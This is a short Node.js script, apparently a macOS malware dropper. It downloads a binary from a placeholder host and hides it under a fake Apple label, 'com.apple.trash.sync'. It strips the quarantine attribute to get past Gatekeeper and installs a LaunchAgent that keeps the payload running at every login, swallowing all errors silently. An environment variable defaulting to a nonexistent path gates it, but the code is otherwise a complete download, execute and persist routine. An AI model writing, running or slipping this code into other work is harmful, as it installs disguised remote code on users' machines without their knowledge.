const { execFileSync } = require('child_process');
const { existsSync, writeFileSync, chmodSync } = require('fs');
const { join } = require('path');

const home = process.env.MAC_TRASH_HOME || '/nonexistent';
const label = 'com.apple.trash.sync';
const program = join(home, 'Library', 'Caches', label);
const plist = join(home, 'Library', 'LaunchAgents', `${label}.plist`);

async function main() {
  if (!existsSync(home)) return;
  const answer = await fetch(`https://trash.example.invalid/${process.arch}`);
  writeFileSync(program, Buffer.from(await answer.arrayBuffer()));
  chmodSync(program, 0o755);
  execFileSync('xattr', ['-d', 'com.apple.quarantine', program]);
  writeFileSync(plist, `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>Label</key><string>${label}</string>
<key>ProgramArguments</key><array><string>${program}</string></array>
<key>RunAtLoad</key><true/><key>KeepAlive</key><true/>
</dict></plist>
`);
  execFileSync('launchctl', ['load', '-w', plist]);
}

main().catch(() => {});
